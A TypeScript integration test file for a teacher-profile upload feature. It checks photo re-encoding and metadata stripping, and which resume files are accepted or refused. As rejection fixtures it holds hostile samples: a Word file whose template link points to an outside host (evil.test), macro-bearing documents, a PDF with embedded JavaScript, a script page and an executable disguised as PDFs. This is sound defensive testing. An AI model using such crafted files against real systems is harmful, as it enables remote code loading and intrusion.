import { errors } from '@prangan/contract/errors'
import { limits } from '@prangan/contract/limits'
import { storageFolders } from '@prangan/contract/storage-paths'
import type { Firestore } from 'firebase-admin/firestore'
import sharp from 'sharp'
import { beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { Bucket } from '../../functions/src/lib/firebase.ts'
import { addressOf } from '../support/call.ts'
import { remadePdf, smallPdf } from '../support/pdf.ts'
import { useOwnApp } from '../support/use-own-app.ts'
import { compoundFile, docx, zip } from '../support/word.ts'
import { file, pathsBelow, photoUrl, picture, statusOf } from './profile-files.ts'
import { changeProfile, type ProfileFields, sendProfile } from './profile-form.ts'
import { makeTeacher, profileOf, type Teacher } from './teachers.ts'

const app = useOwnApp()
let firestore: Firestore
let bucket: Bucket
let teacher: Teacher
beforeAll(async () => {
  ;[firestore, bucket] = await Promise.all([app.firestore(), app.bucket()])
})
beforeEach(async () => {
  teacher = await makeTeacher(app)
})

const update = (fields: ProfileFields, token = teacher.token) => sendProfile(fields, token)
const itemOf = (fields: ProfileFields, token = teacher.token) => changeProfile(fields, token)
const stored = () => profileOf(firestore, teacher)
const resumesOf = () => pathsBelow(bucket, `${storageFolders.resumes}/${teacher.uid}/`)

describe("A teacher's photo", () => {
  it('is re-encoded four by five, upright, without its GPS position, under a new name', async () => {
    const gps = { IFD0: { Copyright: 'Somebody' }, IFD3: { GPSLatitude: '27/1 10/1 0/1' } }
    const sideways = await picture(900, 600).withExif(gps).withMetadata({ orientation: 6 }).jpeg().toBuffer()
    const item = await itemOf({ photo: file(sideways, 'Me at home.jpg') })
    expect(item.photo).toMatch(/^[0-9a-f-]{36}\.webp$/)
    const response = await fetch(addressOf(photoUrl(item)))
    expect([response.status, response.headers.get('content-type')]).toEqual([200, 'image/webp'])
    const made = await sharp(Buffer.from(await response.arrayBuffer())).metadata()
    expect(made).toMatchObject({ format: 'webp', width: 640, height: 800 })
    expect([made.exif, made.orientation]).toEqual([undefined, undefined])
  })

  it('replaces the previous one, which is deleted', async () => {
    const first = await itemOf({ photo: file(await picture(50, 50).png().toBuffer(), 'a.png') })
    const second = await itemOf({ photo: file(await picture(64, 80).webp().toBuffer(), 'a.webp') })
    expect(second.photo).not.toBe(first.photo)
    expect([await statusOf(photoUrl(first)), await statusOf(photoUrl(second))]).toEqual([404, 200])
    const kept = await itemOf({ phone: '55500 10001', photo: file('', '') })
    expect(kept.photo).toBe(second.photo)
  })

  it.each([
    ['is a PDF', smallPdf('me.jpg'), 415],
    ['is a drawing with a script', file('<svg xmlns="http://www.w3.org/2000/svg"/>', 'me.svg'), 415],
    ['breaks off', file(Buffer.from('ffd8ffe000104a464946000101', 'hex'), 'me.jpg'), 400],
    ['is too large', file(new Uint8Array(limits.file.photo + 1), 'me.jpg'), 413],
  ])('that %s is refused at its field, and nothing is changed', async (_what, photo, expected) => {
    const { status, body } = await update({ phone: '55500 10001', photo })
    expect([status, Object.keys(body.errors ?? {})]).toEqual([expected, ['photo']])
    expect(body.message).not.toMatch(/notice/i)
    expect(await stored()).toMatchObject({ phone: '', photo: '', version: 0 })
  })
})

describe("A teacher's resume", () => {
  const pdf = 'application/pdf'
  const word = 'application/msword'
  const openWord = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

  it.each([
    ['a PDF', smallPdf('My resume (2026).PDF'), /\/My-resume-2026-[0-9a-f]{16}\.pdf$/, pdf, 'inline'],
    ['a Word document of old', file(compoundFile(), 'cv.doc'), /\/cv-[0-9a-f]{16}\.doc$/, word, 'attachment'],
    [
      'a Word document',
      file(docx(), 'जीवनवृत्त.docx'),
      /\/document-[0-9a-f]{16}\.docx$/,
      openWord,
      'attachment',
    ],
    [
      'a Word document with a wrong ending',
      file(docx(), 'cv.pdf'),
      /\/cv-[0-9a-f]{16}\.docx$/,
      openWord,
      'attachment',
    ],
  ])(
    'as %s is public, under a name that can be read but not guessed',
    async (_what, resume, path, type, shown) => {
      const { Resume } = await itemOf({ resume })
      expect(Resume).toMatch(path)
      const response = await fetch(addressOf(Resume))
      expect([response.status, response.headers.get('content-type')]).toEqual([200, type])
      expect(response.headers.get('content-disposition')).toMatch(new RegExp(`^${shown};`))
      const sent = Buffer.from(await resume.arrayBuffer())
      const kept = Buffer.from(await response.arrayBuffer())
      expect(kept.equals(type === 'application/pdf' ? await remadePdf(sent) : sent)).toBe(true)
    },
  )

  it('replaces the previous one, which is deleted', async () => {
    const first = await itemOf({ resume: smallPdf() })
    const second = await itemOf({ resume: file(docx(), `${'long '.repeat(60)}.docx`) })
    expect([await statusOf(first.Resume), await statusOf(second.Resume)]).toEqual([404, 200])
    expect(await resumesOf()).toEqual([second.Resume.slice(1)])
  })

  it.each([
    [
      'a Word document with a template from elsewhere',
      file(
        docx({
          more: {
            'word/_rels/settings.xml.rels':
              '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/x.dotm" TargetMode="External"/></Relationships>',
          },
        }),
        'cv.docx',
      ),
      'Please save it as a PDF and choose that.',
    ],
    [
      'a Word document of old with macros',
      file(Buffer.concat([compoundFile(), compoundFile('_VBA_PROJECT')]), 'cv.doc'),
      'Please save it as a PDF and choose that.',
    ],
    [
      'a PDF with a script',
      file('%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj', 'cv.pdf'),
      'Please print it to a new PDF and choose that.',
    ],
  ])('as %s is refused at its field with what to do, and nothing is kept', async (_what, resume, advice) => {
    const { status, body } = await update({ phone: '55500 10001', resume })
    expect([status, body.errors]).toEqual([415, { resume: expect.stringContaining(advice) }])
    expect([await stored(), await resumesOf()]).toMatchObject([{ phone: '', resume: '' }, []])
  })

  it.each([
    ['a program named .pdf', file('MZ\u0090\u0000'.padEnd(600, '\0'), 'cv.pdf')],
    ['a zip named .docx', file(zip({ 'a.txt': 'x' }), 'cv.docx')],
    [
      'a zip with a folder called word',
      file(zip({ 'word/a.exe': 'x', '[Content_Types].xml': '' }), 'cv.docx'),
    ],
    ['a spreadsheet', file(docx({ type: 'x/y', folder: 'xl' }), 'cv.docx')],
    [
      'a Word document with macros',
      file(docx({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }), 'cv.docx'),
    ],
    ['an old spreadsheet named .doc', file(compoundFile('Workbook'), 'cv.doc')],
    ['a page named .pdf', file('<html><script>alert(1)</script>', 'cv.pdf')],
    ['a picture', file(Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'cv.png')],
  ])('as %s is refused at its field, and nothing is kept', async (_what, resume) => {
    const { status, body } = await update({ phone: '55500 10001', resume })
    expect([status, body.errors]).toEqual([
      415,
      { resume: 'This type of file is not accepted. Please choose a PDF or a Word document.' },
    ])
    expect([await stored(), await resumesOf()]).toMatchObject([{ phone: '', resume: '' }, []])
  })

  it('of no bytes is refused at its field, and nothing is kept', async () => {
    const { status, body } = await update({ phone: '55500 10001', resume: file('', 'cv.pdf') })
    expect([status, body.errors]).toEqual([400, { resume: errors['empty-file'][1] }])
    expect([await stored(), await resumesOf()]).toMatchObject([{ phone: '', resume: '' }, []])
  })

  it('over the limit is refused, one of the limit is taken', { tags: ['slow'] }, async () => {
    const refused = await update({ resume: smallPdf('cv.pdf', limits.file.resume + 1) })
    const words = 'The file is too large. It can be up to 5 MB.'
    expect([refused.status, refused.body.errors]).toEqual([413, { resume: words }])
    expect((await update({ resume: smallPdf('cv.pdf', limits.file.resume) })).status).toBe(200)
  })
})
